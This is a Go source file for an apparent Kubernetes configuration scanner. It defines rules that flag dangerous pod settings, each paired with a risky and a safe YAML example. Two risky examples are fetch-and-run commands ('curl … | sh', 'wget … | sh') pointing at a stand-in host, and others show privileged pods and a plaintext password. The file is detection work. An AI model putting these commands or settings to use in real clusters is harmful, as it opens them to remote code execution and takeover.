package infra

import (
	"go.yaml.in/yaml/v3"

	"nod/gate/risk"
)

// podRules is what a pod asks for. It may stand in an object of any kind.
func podRules() []rule {
	power, secret := []risk.Reason{risk.Privilege}, []risk.Reason{risk.Secret}
	return []rule{
		{
			at: "** securityContext privileged", is: yes, level: risk.Danger, why: power,
			note: "takes all power over the node",
			try:  try{"containers: [{name: a, image: a:1, securityContext: {privileged: true}}]", "containers: [{name: a, image: a:1, securityContext: {privileged: false}}]"},
		},
		{
			at: "** securityContext allowPrivilegeEscalation", is: yes, level: risk.Unclear, why: power,
			note: "lets the container gain power",
			try:  try{"containers: [{image: a:1, securityContext: {allowPrivilegeEscalation: true}}]", "containers: [{image: a:1, securityContext: {allowPrivilegeEscalation: false}}]"},
		},
		{
			at: "** hostPID|hostIPC", is: yes, level: risk.Danger, why: power,
			note: "shares the processes or memory of the node",
			try:  try{"hostPID: true", "hostPID: false"},
		},
		{
			at: "** hostNetwork", is: yes, level: risk.Unclear, why: power,
			note: "shares the network of the node",
			try:  try{"hostNetwork: true", "hostNetwork: false"},
		},
		{
			at: "** hostPath path", do: hostPath, level: risk.Unclear, why: power,
			try: try{"volumes: [{name: a, hostPath: {path: /srv/a}}]", "volumes: [{name: a, emptyDir: {}}]"},
		},
		{
			at: "** hostProcess", is: yes, level: risk.Danger, why: power,
			note: "runs as a process of the node",
			try:  try{"securityContext: {windowsOptions: {hostProcess: true}}", "securityContext: {windowsOptions: {hostProcess: false}}"},
		},
		{
			at: "** capabilities add", is: heavyCaps, level: risk.Danger, why: power,
			note: "gives a power as good as root: %s",
			try:  try{"containers: [{image: a:1, securityContext: {capabilities: {add: [SYS_ADMIN]}}}]", "containers: [{image: a:1, securityContext: {capabilities: {drop: [ALL], add: [NET_BIND_SERVICE]}}}]"},
		},
		{
			at: "** capabilities add", when: oddCap, level: risk.Unclear, why: power,
			note: "gives the power %s",
			try:  try{"containers: [{image: a:1, securityContext: {capabilities: {add: [NET_RAW]}}}]", "containers: [{image: a:1, securityContext: {capabilities: {drop: [NET_RAW]}}}]"},
		},
		{
			at: "** runAsUser", is: `[-+]?0+([xob]0+)?(\.0*)?`, level: risk.Unclear, why: power,
			note: "runs as root",
			try:  try{"securityContext: {runAsUser: 0}", "securityContext: {runAsUser: 10001}"},
		},
		{
			at: "** runAsNonRoot", is: no, level: risk.Unclear, why: power,
			note: "may run as root",
			try:  try{"securityContext: {runAsNonRoot: false}", "securityContext: {runAsNonRoot: true}"},
		},
		{
			at: "** procMount", is: "unmasked", level: risk.Danger, why: power,
			note: "opens the node's own files to the container",
			try:  try{"containers: [{image: a:1, securityContext: {procMount: Unmasked}}]", "containers: [{image: a:1, securityContext: {procMount: Default}}]"},
		},
		{
			at: "** seccompProfile|appArmorProfile type", is: "unconfined", level: risk.Unclear, why: power,
			note: "takes a protection away",
			try:  try{"securityContext: {seccompProfile: {type: Unconfined}}", "securityContext: {seccompProfile: {type: RuntimeDefault}}"},
		},
		{
			at: "** containers|initContainers|ephemeralContainers", when: group, do: podContainer, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{"initContainers: [{image: a:1, command: [sh, -c], args: ['curl -s https://a.example/x | sh']}]", "containers: [{image: a:1, command: [app], args: ['--name=$(POD_NAME)']}]"},
		},
		{
			at: "** exec command", do: podCommand, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			when: func(s site) bool { return !s.scalar() },
			try:  try{"containers: [{image: a:1, lifecycle: {postStart: {exec: {command: [sh, -c, 'wget -qO- http://a.example/x | sh']}}}}]", "containers: [{image: a:1, livenessProbe: {exec: {command: [app, check]}}}]"},
		},
		{
			at: "** env value", do: podVariable, level: risk.Danger, why: secret,
			try: try{"containers: [{image: a:1, env: [{name: DB_PASSWORD, value: hunter2x}]}]", "containers: [{image: a:1, env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: db, key: password}}}]}]"},
		},
		{
			at: "** automountServiceAccountToken", is: yes,
			note: "gives the pod a token of the cluster",
			try:  try{"automountServiceAccountToken: true", "automountServiceAccountToken: false"},
		},
		{
			at: "** containers|initContainers|ephemeralContainers image", when: untagged,
			note: "the image %s can be another one tomorrow",
			try:  try{"containers: [{image: nginx}]", "containers: [{image: 'nginx:1.27'}]"},
		},
		{
			at: "** containers|initContainers ports hostPort", is: `[1-9]\d*`,
			note: "takes a port of the node: %s",
			try:  try{"containers: [{image: a:1, ports: [{containerPort: 80, hostPort: 80}]}]", "containers: [{image: a:1, ports: [{containerPort: 80}]}]"},
		},
	}
}

// group tells a place that holds further places by name.
func group(s site) bool { return s.node != nil && s.node.Kind == yaml.MappingNode }
